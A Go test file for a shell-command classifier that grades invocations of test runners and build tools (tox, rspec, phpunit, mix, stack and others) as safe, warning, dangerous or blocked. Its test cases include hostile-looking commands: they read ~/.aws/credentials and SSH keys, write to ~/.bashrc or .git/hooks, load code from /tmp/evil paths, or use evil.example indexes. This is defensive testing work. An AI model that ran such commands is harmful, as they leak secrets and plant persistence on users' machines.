package classify

import (
	"os/exec"
	"regexp"
	"testing"
)

// tox, bats, rspec and rubocop judge every option by their tables: the
// options that load code, start servers, reach the network or write are
// judged as such, and an option outside the table is not modelled.
func TestLanguageTestRunnersJudgeTheirOptions(t *testing.T) {
	checkLevels(t, append(each(Safe,
		// tox lists its environments; running them installs packages.
		"tox -l", "tox -a -v", "tox --showconfig", "tox --version", "tox --help-ini", "tox -c tox-ci.ini -l",
		// bats runs the project's test files.
		"bats test/", "bats -r test", "bats -t test/a.bats", "bats --formatter junit -o reports test", "bats -f 'parses' -T test/a.bats",
		"bats --count test", "bats -j 4 --no-parallelize-within-files test",
		// rspec runs the project's specs.
		"rspec", "rspec spec/models/user_spec.rb:37", "rspec 'spec/a_spec.rb[1:5,1:6]'", "rspec -f d --order rand", "rspec --only-failures",
		"rspec -t ~slow --seed 1234", "rspec -e 'parses dates' spec/a_spec.rb", "rspec -r ./spec/support/helper.rb", "rspec -I lib spec",
		"rspec --format json --out tmp/rspec.json", "rspec --fail-fast=3 --profile", "rspec --dry-run", "rspec --bisect=verbose",
		// rubocop checks the project.
		"rubocop", "rubocop app lib", "rubocop -l", "rubocop --format json -o tmp/rubocop.json", "rubocop -D -E -S --fail-level W",
		"rubocop --only Style/StringLiterals app", "rubocop --except Metrics --parallel", "rubocop -c .rubocop.yml", "rubocop -L",
		"rubocop --show-cops Style/Foo", "rubocop --cache-root tmp/cache", "rubocop --server-status"),
		// tox runs environments: packages are installed from the index.
		levelCase{"tox", Warning}, levelCase{"tox -e py311", Warning}, levelCase{"tox -e lint -- --fix", Warning}, levelCase{"tox -p auto", Warning},
		levelCase{"tox -i https://evil.example/simple -e py", Warning}, levelCase{"tox --discover /tmp/python", Warning},
		levelCase{"tox -c ~/.aws/credentials -l", Blocked}, levelCase{"tox -c /tmp/tox.ini -l", Warning}, levelCase{"tox --workdir /tmp/w", Dangerous},
		levelCase{"tox --result-json ~/.bashrc", Blocked}, levelCase{"tox --frobnicate -l", Warning},
		// bats: formatter programs, report directories, files outside.
		levelCase{"bats -F /tmp/fmt test", Warning}, levelCase{"bats --report-formatter ./evil test", Warning},
		levelCase{"bats -o /tmp/r test", Dangerous}, levelCase{"bats --gather-test-outputs-in .git/hooks test", Blocked},
		levelCase{"bats /tmp/t.bats", Warning}, levelCase{"bats ~/.ssh", Blocked}, levelCase{"bats --frobnicate test", Warning},
		// rspec: libraries, option files, formatter classes, DRb, --init, outputs.
		levelCase{"rspec -r evil", Warning}, levelCase{"rspec --require evil_lib spec", Warning}, levelCase{"rspec -r /tmp/evil.rb", Warning},
		levelCase{"rspec -r ~/.ssh/id_rsa", Blocked}, levelCase{"rspec -O /tmp/opts", Warning}, levelCase{"rspec --options ~/.netrc", Blocked},
		levelCase{"rspec -f Evil::Formatter", Warning}, levelCase{"rspec -X", Warning}, levelCase{"rspec --drb-port 8989", Warning},
		levelCase{"rspec --init", Warning}, levelCase{"rspec -o ~/.bashrc", Blocked}, levelCase{"rspec --out /tmp/r.txt", Dangerous},
		levelCase{"rspec -I /opt/evil spec", Warning}, levelCase{"rspec ~/.ssh/id_rsa", Blocked}, levelCase{"rspec --frobnicate", Warning},
		// rubocop: autocorrect rewrites, generated configuration, requires, servers, outputs.
		levelCase{"rubocop -a", Warning}, levelCase{"rubocop -A app", Warning}, levelCase{"rubocop --autocorrect-all", Warning}, levelCase{"rubocop -x", Warning},
		levelCase{"rubocop --auto-gen-config", Warning}, levelCase{"rubocop --init", Warning}, levelCase{"rubocop -r rubocop-rails", Warning},
		levelCase{"rubocop --require /tmp/evil.rb", Warning}, levelCase{"rubocop --start-server", Warning}, levelCase{"rubocop --server", Warning},
		levelCase{"rubocop -c ~/.aws/credentials", Blocked}, levelCase{"rubocop --config /tmp/r.yml", Warning}, levelCase{"rubocop -o ~/.profile", Blocked},
		levelCase{"rubocop --cache-root /tmp/rc", Dangerous}, levelCase{"rubocop -a ~/.bashrc", Blocked}, levelCase{"rubocop --frobnicate", Warning},
	))
}

// cucumber runs the project's features: libraries it requires, formatter
// classes it loads, --init and its outputs are judged.
func TestCucumberJudgesItsOptions(t *testing.T) {
	checkLevels(t, append(each(Safe,
		"cucumber", "cucumber features/login.feature:10", "cucumber -t @smoke -f progress", "cucumber --format json --out tmp/c.json",
		"cucumber -r features/support -r features/step_definitions", "cucumber -p ci --strict", "cucumber --dry-run -f stepdefs", "cucumber -i -q"),
		levelCase{"cucumber -r evil_lib", Warning}, levelCase{"cucumber --require /tmp/steps", Warning}, levelCase{"cucumber -r ~/.ssh/id_rsa", Blocked},
		levelCase{"cucumber -f Evil::Formatter", Warning}, levelCase{"cucumber --init", Warning}, levelCase{"cucumber -o ~/.bashrc", Blocked},
		levelCase{"cucumber --out /tmp/c.txt", Dangerous}, levelCase{"cucumber /tmp/features", Warning}, levelCase{"cucumber --frobnicate", Warning},
	))
}

// phpunit runs the project's tests: scripts it includes, configuration
// it reads, extensions, php.ini changes, the network and its reports are
// judged.
func TestPHPUnitJudgesItsOptions(t *testing.T) {
	checkLevels(t, append(each(Safe,
		"phpunit", "phpunit tests/Unit", "phpunit --filter testLogin tests/", "phpunit -c phpunit.xml.dist --testsuite unit", "phpunit --testdox --colors=always",
		"phpunit --coverage-html build/coverage", "phpunit --coverage-text", "phpunit --coverage-text=build/cov.txt", "phpunit --log-junit build/junit.xml",
		"phpunit --bootstrap vendor/autoload.php tests", "phpunit -d memory_limit=-1", "phpunit --list-tests", "phpunit --group slow --stop-on-failure",
		"phpunit --order-by=random --random-order-seed 42", "phpunit --version"),
		levelCase{"phpunit --bootstrap /tmp/evil.php", Warning}, levelCase{"phpunit --prepend /tmp/evil.php", Warning}, levelCase{"phpunit --bootstrap ~/.ssh/id_rsa", Blocked},
		levelCase{"phpunit -c /tmp/phpunit.xml", Warning}, levelCase{"phpunit --configuration ~/.aws/credentials", Blocked},
		levelCase{"phpunit --extensions Evil\\\\Ext", Warning}, levelCase{"phpunit --printer Evil\\\\Printer", Warning},
		levelCase{"phpunit -d auto_prepend_file=/tmp/x.php", Warning}, levelCase{"phpunit --include-path /opt/evil", Warning},
		levelCase{"phpunit --check-version", Warning}, levelCase{"phpunit --generate-configuration", Warning}, levelCase{"phpunit --migrate-configuration", Warning},
		levelCase{"phpunit --log-junit ~/.bashrc", Blocked}, levelCase{"phpunit --coverage-html /tmp/cov", Dangerous}, levelCase{"phpunit --coverage-text=/tmp/c.txt", Dangerous},
		levelCase{"phpunit --coverage-clover .git/hooks/post-checkout", Blocked}, levelCase{"phpunit /tmp/tests", Warning}, levelCase{"phpunit --frobnicate", Warning},
	))
}

// stylua rewrites the files it is given unless --check; its
// configuration file is read by the path rules.
func TestStyLuaJudgesItsOptions(t *testing.T) {
	checkLevels(t, append(each(Safe,
		"stylua --check .", "stylua -c src", "stylua --check --config-path stylua.toml lua/", "stylua --check -g '*.lua' --indent-type Spaces .",
		"stylua --version", "stylua -"),
		levelCase{"stylua .", Warning}, levelCase{"stylua --column-width 100 src", Warning}, levelCase{"stylua --check --config-path ~/.aws/credentials .", Blocked},
		levelCase{"stylua --check --config-path /tmp/s.toml .", Warning}, levelCase{"stylua ~/.bashrc", Blocked}, levelCase{"stylua --check --frobnicate .", Warning},
		levelCase{"stylua --chec .", Warning},
	))
}

// dune builds and tests by its table; the commands that run programs,
// install or write sources are judged as such.
func TestDuneJudgesItsCommands(t *testing.T) {
	checkLevels(t, append(each(Safe,
		"dune build", "dune build @install", "dune build -j 4 --profile release", "dune runtest", "dune test", "dune build --display short @runtest",
		"dune build --release -p mypkg", "dune build --watch", "dune --version", "dune build --cache=disabled", "dune build --build-dir _build2"),
		levelCase{"dune exec ./main.exe", Warning}, levelCase{"dune utop", Warning}, levelCase{"dune install", Dangerous}, levelCase{"dune clean", Warning},
		levelCase{"dune promote", Warning}, levelCase{"dune init project x", Warning}, levelCase{"dune describe", Warning},
		levelCase{"dune build --diff-command 'sh -c id'", Warning}, levelCase{"dune runtest --auto-promote", Warning}, levelCase{"dune build --cache=enabled", Warning},
		levelCase{"dune build --build-dir /tmp/b", Dangerous}, levelCase{"dune build --trace-file ~/.bashrc", Blocked},
		levelCase{"dune build --config-file ~/.aws/credentials", Blocked}, levelCase{"dune build --root /tmp/other", Warning},
		levelCase{"dune build --frobnicate", Warning}, levelCase{"dune --frobnicate build", Warning},
	))
}

// mix judges its tasks: test, compile, deps and format by their tables,
// the tasks that fetch, run code, install or write by what they do.
func TestMixJudgesItsTasks(t *testing.T) {
	checkLevels(t, append(each(Safe,
		"mix test", "mix test test/my_app_test.exs:12", "mix test --only integration --trace", "mix test --cover --export-coverage default",
		"mix test --max-failures 1 --seed 0 --stale", "mix compile", "mix compile --warnings-as-errors --force", "mix format --check-formatted",
		"mix format --dry-run lib/a.ex", "mix deps", "mix deps --all", "mix help test", "mix --version", "mix -v"),
		levelCase{"mix", Warning}, levelCase{"mix format", Warning}, levelCase{"mix format lib/a.ex", Warning}, levelCase{"mix deps.get", Warning},
		levelCase{"mix hex.publish", Warning}, levelCase{"mix run -e 'System.cmd(\"id\", [])'", Warning}, levelCase{"mix eval 'IO.puts 1'", Warning},
		levelCase{"mix cmd id", Warning}, levelCase{"mix local.hex --force", Dangerous}, levelCase{"mix archive.install hex phx_new", Dangerous},
		levelCase{"mix escript.install github x/y", Dangerous}, levelCase{"mix clean", Warning}, levelCase{"mix release", Warning},
		levelCase{"mix test --formatter Evil.Formatter", Warning}, levelCase{"mix format --check-formatted --dot-formatter /tmp/f.exs", Warning},
		levelCase{"mix format --check-formatted --dot-formatter ~/.ssh/id_rsa", Blocked}, levelCase{"mix compile --erl-config ~/.aws/credentials", Blocked},
		levelCase{"mix test /tmp/evil_test.exs", Warning}, levelCase{"mix test --frobnicate", Warning}, levelCase{"mix test --trac", Warning},
		levelCase{"mix format ~/.bashrc", Blocked},
	))
}

// TestMixTablesMatchInstalledHelp checks the tables of mix's tasks
// against the options "mix help TASK" lists ("  * `--name` - ..."). It
// skips where Elixir is not installed.
func TestMixTablesMatchInstalledHelp(t *testing.T) {
	bin, err := exec.LookPath("mix")
	if err != nil {
		t.Skip("mix is not installed here, so its tables are not checked against its help")
	}
	listed := regexp.MustCompile("(?m)^  \\* `(--[a-z-]+)`")
	for _, task := range []string{"test", "compile", "format", "deps"} {
		cmd := exec.CommandContext(t.Context(), bin, "help", task)
		cmd.Env = []string{"LC_ALL=C.UTF-8", "PATH=/usr/bin:/bin", "HOME=" + t.TempDir()}
		out, _ := cmd.CombinedOutput()
		opts := listed.FindAllStringSubmatch(string(out), -1)
		if len(opts) == 0 {
			t.Errorf("mix help %s lists no options: %q", task, firstLine(string(out)))
			continue
		}
		o := *mixTool.verbs[task]
		o.parsed = nil
		o.spec()
		for _, m := range opts {
			if !o.helpKnows(m[1]) {
				t.Errorf("mix help %s lists %s, which its table does not know", task, m[1])
			}
		}
	}
}

// stack builds, tests and prints paths by its tables; the options and
// commands that run programs, reach the network or install outside the
// project are judged as such.
func TestStackJudgesItsCommands(t *testing.T) {
	checkLevels(t, append(each(Safe,
		"stack build", "stack test", "stack build --fast --pedantic", "stack test --coverage --ta '--match parser'", "stack build -j4 --no-run-tests",
		"stack --verbosity warn build", "stack build --file-watch", "stack haddock --no-haddock-deps", "stack bench --no-run-benchmarks",
		"stack path", "stack path --local-install-root", "stack path --stack-root", "stack --version", "stack --numeric-version",
		"stack build --stack-yaml stack-ghc9.yaml", "stack --work-dir .stack-work-ci build"),
		levelCase{"stack install", Dangerous}, levelCase{"stack build --copy-bins", Dangerous}, levelCase{"stack setup", Dangerous}, levelCase{"stack upgrade", Dangerous},
		levelCase{"stack upload .", Dangerous}, levelCase{"stack update", Warning}, levelCase{"stack exec -- ls", Warning}, levelCase{"stack run", Warning},
		levelCase{"stack ghci", Warning}, levelCase{"stack eval 'print 1'", Warning}, levelCase{"stack clean", Warning}, levelCase{"stack new foo", Warning},
		levelCase{"stack build --exec 'sh -c id'", Warning}, levelCase{"stack build --ghc-options=-pgmL/tmp/x", Warning}, levelCase{"stack --with-gcc /tmp/cc build", Warning},
		levelCase{"stack build --open --haddock", Warning}, levelCase{"stack --docker build", Warning}, levelCase{"stack --nix build", Warning},
		levelCase{"stack build --setup-info-yaml https://evil.example/s.yaml", Warning},
		levelCase{"stack build --stack-yaml ~/.aws/credentials", Blocked}, levelCase{"stack --stack-root /tmp/sr build", Dangerous},
		levelCase{"stack --work-dir ~/.ssh build", Blocked}, levelCase{"stack build --frobnicate", Warning}, levelCase{"stack build --fas", Warning},
	))
}

// The untabled names' handlers judge the options of theirs that write,
// load code or run programs; their tables are not complete, so even their
// everyday forms are warning, never safe.
func TestPendingLanguageToolsJudgeWhatTheyRun(t *testing.T) {
	checkLevels(t, append(each(Warning, "ktlint", "ktlint 'src/**/*.kt'", "ktlint --reporter=plain,output=build/ktlint.txt", "swiftlint", "swiftlint lint --output build/lint.txt",
		"cabal build", "cabal test", "kotlinc main.kt", "kotlinc -d out main.kt"),
		levelCase{"ktlint installGitPreCommitHook", Blocked}, levelCase{"ktlint installGitPrePushHook", Blocked},
		levelCase{"ktlint --reporter=plain,output=/home/dev/.bashrc", Blocked}, levelCase{"ktlint --reporter=csv,artifact=/tmp/r.jar", Warning},
		levelCase{"ktlint -R /tmp/evil.jar", Warning}, levelCase{"ktlint --ruleset=rules.jar", Warning}, levelCase{"ktlint -F", Warning},
		levelCase{"swiftlint lint --output ~/.bashrc", Blocked}, levelCase{"swiftlint lint --output /tmp/l.txt", Dangerous},
		levelCase{"cabal build --with-compiler=/tmp/evil", Warning}, levelCase{"cabal build -w /tmp/ghc", Warning}, levelCase{"cabal build --with-gcc=/tmp/cc", Warning},
		levelCase{"cabal build --ghc-options=-pgmL/tmp/x", Warning}, levelCase{"cabal test --ghc-option=-fplugin=Evil", Warning},
		levelCase{"kotlinc -script build.kts", Warning}, levelCase{"kotlinc -e 'println(1)'", Warning}, levelCase{"kotlinc x.main.kts", Warning},
	))
}
